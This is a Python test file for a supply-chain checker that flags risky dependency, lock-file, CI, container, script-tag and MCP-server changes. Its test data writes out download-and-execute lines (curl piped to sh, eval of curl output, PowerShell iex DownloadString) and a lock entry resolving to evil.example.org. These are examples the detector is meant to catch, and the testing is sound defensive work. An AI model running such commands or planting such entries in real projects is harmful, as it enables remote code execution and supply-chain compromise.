"""The check as a whole: every example of every rule, and how changes of several files are judged together."""
# ruff: noqa: E501 - samples of other formats read best on one line

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

import pytest
import tomli

from sayso import policy, tables
from sayso.checks import supply_chain
from sayso.lines import added_lines
from sayso.model import AddedLine, Change, ChangeKind, DataError, Finding, Severity, Snapshot

FILE = Path(__file__).parents[2] / "rules" / "supply_chain.toml"
TEXT = FILE.read_text(encoding="utf-8")
RULES = supply_chain.read_rules(tables.parse(TEXT, "supply_chain.toml"))
SHA = "0123456789abcdef0123456789abcdef01234567"


def snapshot(example: str) -> Snapshot:
    """Build the change that an example describes, as the head of the rules file explains it."""
    changes: list[Change] = []
    added: dict[str, tuple[AddedLine, ...]] = {}
    texts: dict[str, str] = {}
    before: dict[str, str] = {}
    there: set[str] = set()
    blocks: list[list[str]] = []
    for line in f"@ {example}".split("\n"):
        if line.startswith("@ "):
            blocks.append([line[2:]])
        elif line.startswith("? "):
            there.add(line[2:])
        else:
            blocks[-1].append(line)
    for path, *lines in blocks:
        old = "".join(f"{line[1:]}\n" for line in lines if line[:1] in "- ")
        new = "".join(f"{line[1:]}\n" for line in lines if line[:1] in "+ ")
        if not new:
            changes.append(Change(ChangeKind.DELETED, path))
            continue
        changes.append(Change(ChangeKind.MODIFIED if old else ChangeKind.ADDED, path))
        there.add(path)
        texts[path] = new
        if old:
            before[path] = old
        added[path] = added_lines(old or None, new)
    return Snapshot(tuple(changes), added, texts, before, there=frozenset(there))


def judge(given: Snapshot) -> list[Finding]:
    asked = set(supply_chain.asks(given.changes))
    given = given._replace(there=given.there & asked)
    return list(supply_chain.check(given, RULES, policy.DEFAULT))


def found(example: str) -> list[str]:
    return [finding.rule for finding in judge(snapshot(example))]


EXAMPLES = [
    pytest.param(rule.id, example, flagged, id=f"{rule.id}-{'flag' if flagged else 'pass'}-{number}")
    for rule in RULES.rules
    for flagged, examples in ((True, rule.flag), (False, rule.passes))
    for number, example in enumerate(examples)
]


@pytest.mark.parametrize(("rule", "example", "flagged"), EXAMPLES)
def test_examples_of_the_rules(rule: str, example: str, flagged: bool) -> None:
    assert (rule in found(example)) is flagged, found(example)


def test_every_rule_has_examples_of_both_kinds_and_none_refuses() -> None:
    assert [rule.id for rule in RULES.rules if not (rule.flag and rule.passes)] == []
    assert {rule.severity for rule in RULES.rules} == {Severity.NOTE, Severity.WARNING}
    assert len({rule.id for rule in RULES.rules}) == len(RULES.rules) == len(tomli.loads(TEXT)["rule"])


@pytest.mark.parametrize(
    ("example", "rules"),
    [
        pytest.param('package.json\n-{"dependencies": {"a": "1"}}\n+{\n+  "dependencies": {\n+    "a": "1"\n+  }\n+}', [], id="reformatted"),
        pytest.param('requirements.txt\n-a==1\n b==2\n@ pyproject.toml\n [project]\n+dependencies = ["a==1"]', [], id="moved-to-another-manifest"),
        pytest.param('requirements.txt\n-a==1\n b==2\n@ pyproject.toml\n [project]\n+dependencies = ["a"]', ["supply-loosened-dependency"], id="moved-and-loosened"),
        pytest.param("requirements.txt\n+a\n+b", ["supply-new-dependency"], id="a-new-manifest-is-told-once"),
        pytest.param("requirements.txt\n-a==1", [], id="deleted"),
        pytest.param("pom.xml\n <project><properties>\n-<v>1.0</v>\n+<v>1.1</v>\n </properties><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>${v}</version></dependency></dependencies></project>", [], id="bumped-by-a-property"),
        pytest.param('a/package.json\n {\n-}\n+"devDependencies": {"x": "1.0.0"}}\n@ b/package.json\n {\n-}\n+"devDependencies": {"x": "1.0.0"}}', ["supply-new-dependency"], id="one-package-in-two-manifests"),
        pytest.param('a/package.json\n-{"dependencies": {"x": "1.0.0"}}\n+{"dependencies": {"x": "1.0.1"}}\n? package-lock.json', ["supply-manifest-without-lock"], id="lock-of-a-workspace"),
        pytest.param('a/package.json\n-{"dependencies": {"x": "1.0.0"}}\n+{"dependencies": {"x": "1.0.1"}}\n@ package-lock.json\n-1\n+2', [], id="lock-of-a-workspace-follows"),
        pytest.param('a/package.json\n-{"dependencies": {"x": "1.0.0"}}\n+{"dependencies": {"x": "1.0.1"}}\n@ b/package-lock.json\n-1\n+2\n? a/package-lock.json', ["supply-lock-refreshed", "supply-manifest-without-lock"], id="lock-of-another-project"),
        pytest.param('Cargo.toml\n [dependencies]\n-x = "1.0"\n+x = "1.1"\n? Cargo.lock', [], id="cargo-lock-has-no-ranges"),
        pytest.param("go.mod\n module m\n-require a.org/a v1.0.0\n? go.sum", [], id="go-sum-keeps-what-goes"),
        pytest.param("requirements.in\n-a\n+a\n+b\n? requirements.txt", ["supply-manifest-without-lock", "supply-new-dependency"], id="compiled-requirements"),
        pytest.param("a/yarn.lock\n-x\n? a/package.json\n? yarn.lock", [], id="lock-moves-up-into-a-workspace"),
        pytest.param('uv.lock\n [[package]]\n name = "a"\n+[[package]]\n+name = "b"\n@ pyproject.toml\n-[project]\n+[project]\n+name = "x"', [], id="any-manifest-explains-a-lock"),
        pytest.param('package-lock.json\n {\n+    "node_modules/b": {\n+      "resolved": "https://evil.example.org/b.tgz"\n+    }\n }\n@ package.json\n-{}\n+{"dependencies": {"b": "1.0.0"}}', ["supply-lock-host", "supply-new-dependency"], id="poisoned-lock"),
        pytest.param("bun.lockb\n-a\n+b", ["supply-lock-without-manifest"], id="lock-that-is-not-read"),
        pytest.param('.gitmodules\n+[submodule "x"]\n+url = https://example.org/x.git', ["supply-direct-source"], id="submodule"),
        pytest.param("binding.gyp\n+{}", ["supply-install-script"], id="binding-gyp"),
        pytest.param('tests/fixtures/package.json\n-{}\n+{"dependencies": {"b": "1.0.0"}}', ["supply-new-dependency"], id="fixture"),
        pytest.param(".github/workflows/a.yml\n+on: [push\n+# curl https://x | sh", ["supply-piped-shell-told", "supply-unreadable"], id="what-cannot-be-read-is-still-searched"),
        pytest.param(".github/workflows/a.yml\n jobs:\n   a:\n     strategy: {matrix: {include: [{image: ubuntu-24.04}]}}\n+    runs-on: ${{ matrix.os }}", [], id="matrix-of-runners"),
        pytest.param(".github/workflows/a.yml\n jobs:\n   a:\n     steps:\n+      - run: echo\n+        env: {image: x, uses: a/b@v1}\n+      - uses: docker://alpine:3", ["supply-image-undigested"], id="environment-is-no-use"),
        pytest.param('.github/workflows/a.yml\n jobs:\n   a:\n     steps:\n+      - "us\\u0065s": a/b@v1', ["supply-action-unpinned"], id="escaped-key"),
        pytest.param(".github/workflows/a.yml\n jobs:\n   a:\n     steps:\n+      - uses: >-\n+          a/b@v1", ["supply-action-unpinned"], id="folded-value"),
        pytest.param("docs/uses.yml\n+uses: a/b@v1\n+image: cat.png", [], id="other-yaml"),
        pytest.param(".gitlab-ci.yml\n+x: !reference [a, b]\n+job:\n+  image: {name: a:1}\n+  services: [b:2]", ["supply-image-undigested", "supply-image-undigested"], id="gitlab"),
        pytest.param("Dockerfile\n+ARG V=3.12\n+FROM --platform=$BUILDPLATFORM python:${V} AS a\n+COPY --from=a /x /x\n+COPY --from=0 /x /x\n+COPY --from=b/c:1 /x /x\n+FROM a", ["supply-image-undigested", "supply-image-undigested"], id="dockerfile"),
        pytest.param('chart/templates/a.yaml\n apiVersion: v1\n+image: "{{ .Values.image }}:{{ .Values.tag }}"', [], id="helm-template"),
        pytest.param("x.sh\n curl https://example.org/x \\\n-  -o x\n+  | sh", ["supply-piped-shell"], id="completed-by-an-added-line"),
        pytest.param("x.sh\n-  curl https://example.org/x | sh\n+curl https://example.org/x | sh", [], id="indented-otherwise"),
        pytest.param("x.sh\n+echo 'curl https://example.org/x | sh'", ["supply-piped-shell-told"], id="said"),
        pytest.param('x.sh\n+echo "$(curl https://example.org/x | sh)"', ["supply-piped-shell"], id="worked-out-in-a-message"),
        pytest.param('x.sh\n+echo "$(curl https://example.org/x)" | sh', ["supply-piped-shell"], id="echo-to-a-shell"),
        pytest.param("x.sh\n+curl https://example.org/x | sudo -u root env A=1 /bin/bash -s", ["supply-piped-shell"], id="wrapped"),
        pytest.param("x.sh\n+curl https://example.org/x; echo a | sh\n+curl a && b | sh\n+curl x | sh -c 'cat'\n+curl x | python3 -c 'print(1)'\n+curl x | shasum", [], id="other-commands"),
        pytest.param('x.sh\n+eval "$(curl -s https://example.org/x)"\n+source <(wget -qO- https://example.org/x)', ["supply-piped-shell", "supply-piped-shell"], id="substituted"),
        pytest.param("x.ps1\n+iex ((New-Object Net.WebClient).DownloadString('https://example.org/x'))", ["supply-piped-shell"], id="powershell"),
        pytest.param('main.go\n+x := "GOPROXY=https://example.org"', [], id="settings-in-compiled-code"),
        pytest.param('a.tf\n module "a" {\n   source = "https://example.org/a.zip"\n }\n+module "b" {\n+  source = "https://example.org/b.zip"\n+}', [], id="module-from-a-known-host"),
        pytest.param("requirements.txt\n-a==2\n-b==2\n-c==2\n-d==2\n+a==1\n+b==1\n+c==1\n+d==1", ["supply-downgrade"], id="many-go-back"),
        pytest.param("requirements.txt\n-a @ git+https://e.org/a@main\n+a @ git+https://e.org/a@main ; python_version > '3'", [], id="same-branch"),
        pytest.param("Cargo.toml\n [dependencies]\n-a = {git='https://e.org/a', branch='main'}\n+[dev-dependencies]\n+a = {git='https://e.org/a', branch='main'}", [], id="same-branch-in-another-group"),
        pytest.param('package.json\n-{"peerDependencies": {"a": "1.0.0"}}\n+{"peerDependencies": {"a": "*"}}', [], id="peers-are-wide"),
        pytest.param('package.json\n-{}\n+{"overrides": {"a": "1.0.0"}}', [], id="override"),
        pytest.param(f"requirements.txt\n-a @ git+https://e.org/a@{SHA}\n+a @ git+https://e.org/a@{SHA[::-1]}", [], id="revision-bumped"),
        pytest.param("compose.yaml\n services: {a: {image: b:1}}\n-x: [\n+x: []", ["supply-image-undigested"], id="compose-not-readable-before"),
        pytest.param(".github/workflows/a.yml\n-x: [\n+x: {steps: [{uses: a/b@v1}]}", ["supply-action-unpinned"], id="workflow-not-readable-before"),
        pytest.param('prek.toml\n+[[repos]]\n+repo = "https://e.org/a"\n+rev = "main"', ["supply-hook-unpinned"], id="prek"),
        pytest.param(".github/workflows/a.yml\n+x: " + "[" * 50 + "{uses: a/b@v1}" + "]" * 50, [], id="too-deep-for-a-workflow"),
        pytest.param(f".gitlab-ci.yml\n+include: [{{remote: 'https://e.org/a.yml', integrity: sha256-x}}, {{component: e.org/a/b@{SHA}}}]", [], id="pinned-includes"),
        pytest.param(".github/workflows/a.yml\n jobs:\n   a:\n     strategy: {matrix: {image: ['x'], include: [{image: a:1}]}}\n+    container: ${{ matrix.image }}", ["supply-image-undigested", "supply-image-variable"], id="matrix-of-images"),
        pytest.param("Dockerfile\n+# FROM no:1\n+RUN --mount=type=bind,from=a/b:1 \\\n+  # no\n+  x\n+COPY --from=stage-of-bake /x /x\n+FROM scratch \\", ["supply-image-undigested"], id="dockerfile-mount"),
        pytest.param("compose.yaml\n+services: {a: {image: '-x y'}}", [], id="no-reference"),
        pytest.param("x.sh\n+pip install --index-url http://localhost:8080/simple a\n+# --index-url https://e.org\n+pip install a\n+npm config set registry https://e.org/npm\n+npm --registry x", ["supply-new-registry"], id="settings"),
        pytest.param('a.tf\n module "a" {\n+  source = "terraform-aws-modules/vpc/aws"\n+  source = "app.e.org/a/b/c"\n+  source = "./x"\n }', ["supply-remote-resource"], id="module-registries"),
        pytest.param('a.html\n <script src="https://e.org/a.js"></script>\n+<p>\n <script src="https://e.org/a.js"></script>', [], id="script-of-before"),
        pytest.param('.mcp.json\n-{}\n+{"mcpServers": {"x": {"command": "npx", "args": ["--package=a", "b"]}, "y": {"command": "npx", "args": ["-y"]}}}', ["supply-mcp-server", "supply-mcp-unpinned"], id="package-option"),
        pytest.param('.mcp.json\n-{}\n+{"mcpServers": {"x": {"command": "docker", "args": ["run", "--rm"]}}}', ["supply-mcp-server"], id="docker-without-an-image"),
        pytest.param("x.ps1\n+iex (x); curl y", [], id="expression-and-another-command"),
        pytest.param("go.mod\n module m\n+toolchain go1.24\n+replace a", [], id="other-directives"),
        pytest.param('composer.json\n-{}\n+{"repositories": [{"type": "path", "url": "./x"}], "require": {}}', [], id="composer-path"),
        pytest.param('package.json\n-{}\n+{"overrides": {"a": 1, "b": "$b"}}', [], id="odd-overrides"),
        pytest.param('Cargo.lock\n [[package]]\n+name = "a"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n@ Cargo.toml\n [dependencies]\n+a = "1"', ["supply-new-dependency"], id="index-of-crates"),
        pytest.param(".github/workflows/a.yml\n x: {steps: [{uses: a/b@v1}]}\n+y: 1", [], id="use-of-before"),
        pytest.param("a.html\n-<p>\n <script src='//e.org/a.js' integrity='x'></script>\n+<p>\n+<script>x</script>", [], id="scripts-of-the-page"),
        pytest.param("a.html\n-<script src='//e.org/a.js'\n+<script src='//e.org/b.js'></script>\n+<script src='//e.org/b.js'></script>", ["supply-remote-resource"], id="script-twice"),
        pytest.param("a.html\n <script src='//e.org/a.js'\n-integrity='x'\n ></script>", ["supply-remote-resource"], id="integrity-deleted"),
        pytest.param("requirements.txt\n a\n+-e", [], id="nothing-editable"),
        pytest.param("go.mod\n module m\n+require nothing", [], id="require-of-nothing"),
        pytest.param("pyproject.toml\n [project]\n+dependencies = ['', 'a==1']\n+[[tool.uv.index]]\n+name = 'x'", ["supply-new-dependency"], id="empty-requirement"),
        pytest.param("a.html\n-<script src='//e.org/a.js' integrity='x'></script>\n+<script src='//e.org/a.js'\n+></script>", ["supply-remote-resource"], id="integrity-dropped"),
        pytest.param("x.sh\n+# iex\n+x \\\n+curl a; b | sh", [], id="words-alone"),
        pytest.param('examples/package.json\n+{"dependencies": {"a": "1", "b": "1"}}\n? package-lock.json', ["supply-new-dependency"], id="new-project-below-another-lock"),
        pytest.param('build.gradle\n-dependencies { implementation("a:b:[1,2)") }\n+dependencies { implementation("a:b:(1,2),(3,") }', [], id="odd-interval"),
        pytest.param('a.html\n+<script\n+  src="//example.org/x.js">\n+</script>', ["supply-remote-resource"], id="script-over-lines"),
    ],
)  # fmt: skip
def test_changes(example: str, rules: list[str]) -> None:
    assert sorted(found(example)) == rules


def one(change: Change, text: str | None, before: str = "") -> list[Finding]:
    texts = {} if text is None else {change.path: text}
    added = {change.path: added_lines(before or None, text)} if text is not None else {}
    return judge(Snapshot((change,), added, texts, {change.path: before} if before else {}))


def test_a_file_that_is_renamed_into_a_manifest_is_new_as_a_whole() -> None:
    text = "a==1\n"
    moved = Change(ChangeKind.RENAMED, "requirements.txt", "notes.md")
    assert [finding.rule for finding in one(moved, text, text)] == ["supply-new-dependency"]
    moved = Change(ChangeKind.RENAMED, "b/requirements.txt", "a/requirements.txt")
    assert one(moved, text, text) == []


def test_a_file_that_is_renamed_into_a_workflow_is_new_as_a_whole() -> None:
    text = "jobs: {a: {steps: [{uses: a/b@v1}]}}\n"
    moved = Change(ChangeKind.RENAMED, ".github/workflows/a.yml", "docs/a.yml")
    assert [finding.rule for finding in one(moved, text, text)] == ["supply-action-unpinned"]


@pytest.mark.parametrize("path", ["package.json", "uv.lock"])
def test_what_is_no_text_or_a_link_cannot_be_read(path: str) -> None:
    assert "supply-unreadable" in [item.rule for item in one(Change(ChangeKind.ADDED, path), None)]
    link = Change(ChangeKind.ADDED, path, mode="120000")
    assert "supply-unreadable" in [item.rule for item in one(link, "../x")]


def test_what_could_not_be_read_before_is_new_as_a_whole() -> None:
    given = one(Change(ChangeKind.MODIFIED, "package.json"), '{"dependencies": {"a": "1"}}', "{")
    assert [finding.rule for finding in given] == ["supply-new-dependency"]


@pytest.mark.parametrize(
    "example",
    [
        "requirements.txt\n+--extra-index-url https://user:hunter2@example.org/simple?token=hunter2",
        "requirements.txt\n+a @ git+https://hunter2@example.org/a.git@main",
        'package.json\n-{}\n+{"dependencies": {"a": "git+https://user:hunter2@example.org/a.git"}}',
        'package.json\n-{}\n+{"scripts": {"postinstall": "TOKEN=hunter2 node x hunter2"}}',
        "x.sh\n+curl -H 'Authorization: hunter2' https://user:hunter2@example.org/x?hunter2 | sh",
        "x.sh\n+npm --registry https://user:hunter2@example.org/ install",
        '.mcp.json\n-{}\n+{"mcpServers": {"a": {"command": "npx", "args": ["-y", "a", "--key", "hunter2"], "env": {"K": "hunter2"}}}}',
        '.mcp.json\n-{}\n+{"mcpServers": {"a": {"url": "https://u:hunter2@example.org/?k=hunter2", "headers": {"A": "hunter2"}}}}',
        '.mcp.json\n-{}\n+{"mcpServers": {"a": {"command": "docker", "args": ["run", "-i", "-e", "K=hunter2", "a/b"]}}}',
        'package-lock.json\n {\n+ "resolved": "https://user:hunter2@example.org/a.tgz?hunter2"\n }',
        'main.tf\n+  source = "git::https://user:hunter2@example.org/a.git"',
        'index.html\n+<script src="https://user:hunter2@example.org/a.js?k=hunter2"></script>',
        "pip.conf\n [global]\n+index-url = https://user:hunter2@example.org/",
        ".gitlab-ci.yml\n+include: https://user:hunter2@example.org/a.yml?private_token=hunter2",
    ],
)  # fmt: skip
def test_no_finding_holds_a_secret(example: str) -> None:
    findings = judge(snapshot(example))
    assert findings
    assert "hunter2" not in repr(findings)


@pytest.mark.parametrize(
    ("server", "unpinned"),
    [
        ('{"command": "npx", "args": ["-y", "@s/a"]}', True),
        ('{"command": "npx", "args": ["-y", "@s/a@latest"]}', True),
        ('{"command": "npx", "args": ["-y", "@s/a@^1.2.3"]}', True),
        ('{"command": "npx", "args": ["-y", "@s/a@1.2.3"]}', False),
        ('{"command": "npx", "args": ["-p", "a@1.2.3", "b"]}', False),
        ('{"command": "cmd", "args": ["/c", "npx", "-y", "a"]}', True),
        ('{"command": "sh", "args": ["-c", "npx -y a"]}', True),
        ('{"command": ["pnpm", "dlx", "a"]}', True),
        ('{"command": "uvx", "args": ["a==1.2.3"]}', False),
        ('{"command": "uvx", "args": ["a@1.2.3"]}', False),
        ('{"command": "uvx", "args": ["--from", "git+https://example.org/a", "a"]}', True),
        ('{"command": "uvx", "args": ["--from", "git+https://example.org/a@SHA", "a"]}'.replace("SHA", SHA), False),
        ('{"command": "uv", "args": ["run", "a.py"]}', False),
        ('{"command": "uv", "args": ["tool", "run", "a"]}', True),
        ('{"command": "docker", "args": ["run", "-i", "--rm", "-e", "K=v", "a/b:latest"]}', True),
        ('{"command": "docker", "args": ["run", "-i", "a/b@sha256:ZERO"]}'.replace("ZERO", "0" * 64), False),
        ('{"command": "node", "args": ["./server.js"]}', False),
        ('{"url": "https://example.org/mcp"}', False),
    ],
)  # fmt: skip
def test_servers_that_are_fetched_anew(server: str, unpinned: bool) -> None:
    expected = "supply-mcp-unpinned" if unpinned else "supply-mcp-server"
    assert found(f'.mcp.json\n-{{}}\n+{{"mcpServers": {{"x": {server}}}}}') == [expected]


@pytest.mark.parametrize(
    "example",
    [
        '.cursor/mcp.json\n+{"mcpServers": {"a": {"command": "a"}}, // c\n+}',
        '.vscode/settings.json\n+{"mcp": {"servers": {"a": {"command": "a"}}}}',
        '.gemini/settings.json\n+{"mcpServers": {"a": {"httpUrl": "https://example.org"}}}',
        '.zed/settings.json\n+{"context_servers": {"a": {"command": {"path": "a", "args": []}}}}',
        'opencode.json\n+{"mcp": {"a": {"type": "local", "command": ["a"]}}}',
        ".continue/config.yaml\n+mcpServers:\n+  - name: a\n+    command: a",
        '.codex/config.toml\n+[mcp_servers.a]\n+command = "a"',
        '.mcp.json\n-{"mcpServers": {"a": {"command": "a", "env": {"K": "1"}}}}\n+{"mcpServers": {"a": {"command": "a", "env": {"K": "2"}}}}',
    ],
)  # fmt: skip
def test_servers_of_every_agent(example: str) -> None:
    assert found(example) == ["supply-mcp-server"]


def test_findings_say_where_and_how_to_repair() -> None:
    (finding,) = judge(snapshot('package.json\n {\n   "dependencies": {\n+    "left": "^1.0.0"\n   }\n }'))
    assert (finding.path, finding.line, finding.severity) == ("package.json", 3, Severity.WARNING)
    assert finding.message == "left ^1.0.0 is a new dependency"
    assert dict(finding.detail)["what"] == "left ^1.0.0"
    assert dict(finding.detail)["fix"]


def test_the_line_of_what_was_there_before_and_of_what_is_not_written() -> None:
    (finding,) = judge(snapshot('package.json\n {"scripts": {"postinstall":\n-"a"\n+"b"\n }}'))
    assert (finding.rule, finding.line) == ("supply-install-script", 1)
    findings = judge(snapshot("build.gradle\n+allowInsecureProtocol = true"))
    assert [(finding.rule, finding.line) for finding in findings] == [("supply-verification-off", 0)]


def test_no_more_commands_are_told_than_a_person_reads() -> None:
    findings = judge(snapshot("x.sh\n+a" + "".join(f"\n+curl https://e.org/{number} | sh" for number in range(150))))
    assert len(findings) == 26


def test_what_is_asked_for_in_a_hundred_ways_cannot_be_read() -> None:
    given = judge(snapshot("requirements.txt\n a==0.1\n" + "\n".join(f"+a=={number}" for number in range(1, 120))))
    assert [finding.rule for finding in given] == ["supply-unreadable"]


def test_a_command_that_the_end_of_the_file_cuts_off() -> None:
    (finding,) = one(Change(ChangeKind.ADDED, "x.sh"), "curl https://e.org | sh \\")
    assert finding.rule == "supply-piped-shell"


def test_samples_and_mild_ones_are_notes() -> None:
    (sample,) = judge(snapshot("tests/fixtures/requirements.txt\n a\n+b"))
    assert sample.severity is Severity.NOTE
    (raised,) = judge(snapshot("requirements.txt\n-a<2\n+a<3"))
    assert raised.severity is Severity.NOTE


def test_one_rule_does_not_fill_the_screen() -> None:
    findings = judge(snapshot("requirements.txt\n a\n" + "\n".join(f"+b{number}" for number in range(100))))
    assert len(findings) == 26
    assert findings[-1].message == "and 75 more of this rule in this file"


def test_rules_that_name_no_rule_are_an_error() -> None:
    with pytest.raises(DataError, match="no rule 'supply-nothing'"):
        supply_chain.read_rules(
            tables.parse(TEXT.replace('rule = "supply-startup-code"', 'rule = "supply-nothing"'), "x")
        )


@pytest.mark.parametrize(
    ("path", "text", "before"),
    [
        pytest.param("pyproject.toml", "a" + ".a" * 500_000 + "=1", "", id="toml-keys"),
        pytest.param(
            "requirements.txt", "\n".join(f"d=={n}" for n in range(90_000)), "d==0.1\n" * 50_000, id="one-name"
        ),
        pytest.param("requirements.txt", "\n".join(f"d{n}" for n in range(90_000)), "a\n", id="many-names"),
        pytest.param(".mcp.json", '{"mcpServers":' + "/*" * 500_000, "", id="comments"),
        pytest.param(".mcp.json", '{"mcpServers":' + '\\"' * 500_000, "", id="quotes"),
        pytest.param("x.sh", "curl a|" + " " * 300 + "curl a| sudo -a a" * 60_000, "", id="pipes"),
        pytest.param("x.ps1", "iex (" * 200_000 + "curl", "", id="expressions"),
        pytest.param("x.html", "<script " * 200_000, "", id="scripts"),
        pytest.param(
            "a.tf", "".join(f' source = "https://a{n}.org/"\n' for n in range(30_000)), "x\n" * 50_000, id="modules"
        ),
        pytest.param("Dockerfile", "COPY " + "--a=b " * 200_000, "", id="copy"),
        pytest.param("package-lock.json", '"node_modules/' * 100_000, "a\n", id="lock"),
        pytest.param("package.json", '{"overrides": {"' + "a/" * 400_000 + '": "1"}}', "", id="overrides"),
    ],
)
def test_hostile_text_costs_no_more_than_its_length(path: str, text: str, before: str) -> None:
    change = Change(ChangeKind.MODIFIED if before else ChangeKind.ADDED, path)
    started = time.process_time()
    one(change, text, before)
    assert time.process_time() - started < 6


def test_a_plain_change_loads_no_reader() -> None:
    code = (
        "import sys\nfrom sayso import policy, tables\nfrom sayso.checks import supply_chain as check\n"
        "from sayso.model import AddedLine, Change, ChangeKind, Snapshot\n"
        f"rules = check.read_rules(tables.parse(open({str(FILE)!r}).read(), 'x'))\n"
        "change = Change(ChangeKind.MODIFIED, 'src/a.py')\n"
        "given = Snapshot((change,), {'src/a.py': (AddedLine(1, 'x = 1'),)}, {'src/a.py': 'x = 1'}, {'src/a.py': ''})\n"
        "assert not list(check.check(given, rules, policy.DEFAULT))\n"
        "print(sorted(name for name in sys.modules if name.startswith('sayso.supply.')))"
    )
    said = subprocess.run([sys.executable, "-I", "-c", code], capture_output=True, text=True, check=True).stdout
    assert said.strip() == "['sayso.supply.files', 'sayso.supply.signs', 'sayso.supply.words']"
